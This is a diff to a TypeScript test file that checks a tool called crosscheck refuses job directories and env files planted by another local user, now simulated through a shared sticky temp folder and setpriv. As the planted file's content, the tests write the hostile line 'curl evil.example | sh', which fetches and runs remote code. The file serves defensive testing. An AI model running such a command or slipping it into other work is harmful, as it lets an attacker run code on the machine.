@@ -1,6 +1,6 @@
 // Issue 18's attacks on `crosscheck action run` / `action post`, each over real processes: secrets, job, cache, files.
 import assert from 'node:assert/strict';
-import { execFile } from 'node:child_process';
+import { execFile, execFileSync } from 'node:child_process';
 import {
   chmodSync,
   chownSync,
@@ -29,7 +29,21 @@ const COMMIT = seed.webApp.pullRequest.sourceCommit;
 /** Another local user's files are made by chown, which only root may do. */
 const ROOT = process.getuid?.() === 0;
 const NOBODY = 65534;
-const OTHER_USER = 'as root, files chowned to nobody; skipped when not root (chown needs root)';
+const OTHER_USER = 'as root, files of user nobody; skipped when not root (only root can act as another user)';
+
+/** A folder every user may write in, sticky like /tmp: where another user plants files first. */
+function sharedTemp(): string {
+  const folder = mkdtempSync(join(tmpdir(), 'crosscheck-shared-'));
+  chmodSync(folder, 0o1777);
+  return folder;
+}
+
+/** Runs a shell command as user nobody (setpriv), as another local user of the machine would. */
+function asNobody(command: string): void {
+  execFileSync('setpriv', [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', 'sh', '-c', command], {
+    stdio: 'ignore',
+  });
+}
 
 /** Writes an action (or any tree) from `files` into a fresh folder; returns the folder. */
 function tree(files: Record<string, string>, prefix = 'crosscheck-hostile-'): string {
@@ -291,9 +305,9 @@ describe('action run against hostile actions and machines (issue 18)', () => {
     it(`refuses a job directory or a job.json of another user, running none of it (${OTHER_USER})`, async function () {
       if (!ROOT) this.skip();
       const work = scratch();
-      const planted = join(work, 'planted');
-      mkdirSync(planted, { mode: 0o755 });
-      chownSync(planted, NOBODY, NOBODY);
+      // Another user creates the victim's job directory first, in a shared /tmp-like folder.
+      const planted = join(sharedTemp(), 'job');
+      asNobody(`umask 022 && mkdir '${planted}'`);
       const first = await runCrosscheck(['action', 'run', jsAction("console.log('MAIN RAN')")], {
         env: { CROSSCHECK_JOB_DIR: planted },
         cwd: work,
@@ -444,10 +458,9 @@ describe('action run against hostile actions and machines (issue 18)', () => {
     it(`refuses a file of another user (${OTHER_USER})`, async function () {
       if (!ROOT) this.skip();
       const work = scratch();
-      const planted = join(work, 'exports.env');
-      writeFileSync(planted, 'curl evil.example | sh\n');
-      chmodSync(planted, 0o644);
-      chownSync(planted, NOBODY, NOBODY);
+      // The README once said /tmp/actions.env: another user creates it first and reads or extends what is sourced.
+      const planted = join(sharedTemp(), 'actions.env');
+      asNobody(`umask 022 && echo 'curl evil.example | sh' > '${planted}'`);
       for (const option of ['--exports-file', '--outputs-file']) {
         const run = await runCrosscheck(['action', 'run', action(), option, planted], { cwd: work });
         assert.equal(run.code, 2, run.stderr);
